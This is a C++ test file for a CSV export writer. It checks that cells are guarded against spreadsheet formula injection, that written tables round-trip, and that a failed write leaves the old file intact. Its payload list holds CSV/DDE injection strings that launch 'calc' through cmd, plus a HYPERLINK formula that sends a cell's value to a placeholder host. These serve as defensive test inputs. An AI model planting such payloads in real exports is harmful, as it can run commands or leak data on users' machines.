// SPDX-License-Identifier: GPL-3.0-or-later
#include "base/atomic_file.h"
#include "io/csv_writer.h"
#include "support/catch.h"
#include "support/tables.h"

#include <rapidcheck.h>
#include <unistd.h>

#include <filesystem>

using namespace accord;
using io::CsvWriter;
using io::ExportFor;

namespace {

using Rows = std::vector<std::vector<std::string>>;

std::filesystem::path scratch(const std::string &name) {
    const auto folder =
        std::filesystem::temp_directory_path() / ("accord-io-" + std::to_string(getpid()));
    std::filesystem::create_directories(folder);
    return folder / name;
}

std::filesystem::path written(const Rows &rows, ExportFor purpose) {
    const auto path = scratch("out.csv");
    CsvWriter writer(path, purpose);
    for (const auto &row : rows) {
        writer.row(std::span<const std::string>(row));
    }
    writer.commit();
    return path;
}

// Cells a spreadsheet program would run, or has run in the past.
const std::vector<std::string> kPayloads = {
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "\xEF\xBB\xBF=1+1",
    "\xE3\x80\x80=1+1",
    "\xC2\xA0=1+1",
    "\xE2\x80\x8B=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
    "=DDE(\"a\";\"b\";\"c\")",
    "'=1+1",
    "''=1+1",
};

} // namespace

TEST_CASE("no cell written for a spreadsheet begins like a formula") {
    for (const auto &payload : kPayloads) {
        INFO(payload);
        const auto safe = io::neutralised(payload);
        CHECK_FALSE(io::looksLikeFormula(safe));
        CHECK(safe == "'" + payload);
        CHECK(io::withoutGuard(safe) == payload);
    }
    for (const auto *harmless :
         {"", "客户", "KA-0012", "a=b", "O'Brien", "'quoted'", "1-2", "#N/A"}) {
        INFO(harmless);
        CHECK(io::neutralised(harmless) == harmless);
        CHECK(io::withoutGuard(harmless) == harmless);
    }
}

TEST_CASE("formula payloads come back as they were from both kinds of file") {
    Rows rows = {{"name", "note"}};
    for (const auto &payload : kPayloads) {
        rows.push_back({"x", payload});
    }
    for (const auto purpose : {ExportFor::Spreadsheet, ExportFor::Reimport}) {
        auto file = rows;
        if (purpose == ExportFor::Reimport) {
            file[0].emplace_back(io::kReimportMark);
        }
        const auto table = test::readTableFile(written(file, purpose));
        REQUIRE(table);
        CHECK(table->format.reimport == (purpose == ExportFor::Reimport));
        CHECK(table->header == rows[0]);
        CHECK(table->rows == Rows(rows.begin() + 1, rows.end()));
    }
}

TEST_CASE("numbers of ours stay numbers for a spreadsheet") {
    const auto path = scratch("numbers.csv");
    CsvWriter writer(path, ExportFor::Spreadsheet);
    const std::vector<io::CsvCell> cells = {{"-12.50", true}, {"-12.50", false}};
    writer.row(cells);
    writer.commit();
    CHECK(base::readFile(path, 100) == "\xEF\xBB\xBF-12.50,'-12.50\r\n");
}

TEST_CASE("any table that is written is read back cell for cell") {
    const auto cell = rc::gen::map(
        rc::gen::container<std::vector<std::string>>(rc::gen::elementOf(std::vector<std::string>{
            "a", "客", "\"", ",", ";", "\t", "\r",           "\n", "\r\n", "'",
            "=", "+",  " ",  "0", "é", "|",  "\xEF\xBB\xBF", "-",  "@",    "😀"})),
        [](const std::vector<std::string> &parts) {
            std::string text;
            for (const auto &part : parts) {
                text += part;
            }
            return text;
        });
    REQUIRE(rc::check([&] {
        const auto columns = *rc::gen::inRange<std::size_t>(1, 5);
        const auto count = *rc::gen::inRange<std::size_t>(0, 8);
        const auto purpose = *rc::gen::element(ExportFor::Spreadsheet, ExportFor::Reimport);
        Rows rows = {{}};
        for (std::size_t i = 0; i < columns; ++i) {
            rows[0].push_back("column " + std::to_string(i));
        }
        for (std::size_t i = 0; i < count; ++i) {
            rows.push_back(*rc::gen::container<std::vector<std::string>>(columns, cell));
            rows.back()[0] += "x"; // a blank row is no row
        }
        auto file = rows;
        if (purpose == ExportFor::Reimport) {
            file[0].emplace_back(io::kReimportMark);
        }
        const auto table = test::readTableFile(written(file, purpose));
        RC_ASSERT(table.has_value());
        RC_ASSERT(table->rows == Rows(rows.begin() + 1, rows.end()));
    }));
}

TEST_CASE("a CSV that cannot be written whole leaves the old file as it was") {
    const auto path = scratch("kept.csv");
    base::writeFileAtomically(path, "old");
    for (int call = 1; call < 12; ++call) {
        base::FileFaults::failAt(call, ENOSPC);
        bool failed = false;
        try {
            CsvWriter writer(path, ExportFor::Reimport);
            writer.row(std::vector<std::string>{"a", "b"});
            writer.commit();
        } catch (const base::StorageError &error) {
            failed = true;
            CHECK(error.problem() == base::StorageProblem::DiskFull);
        }
        base::FileFaults::clear();
        if (!failed) {
            CHECK(call > 1);
            break;
        }
        // After the rename the new file stands; it is whole then.
        const auto content = base::readFile(path, 100);
        CHECK((content == "old" || content == "a,b\r\n"));
        base::writeFileAtomically(path, "old");
    }
}
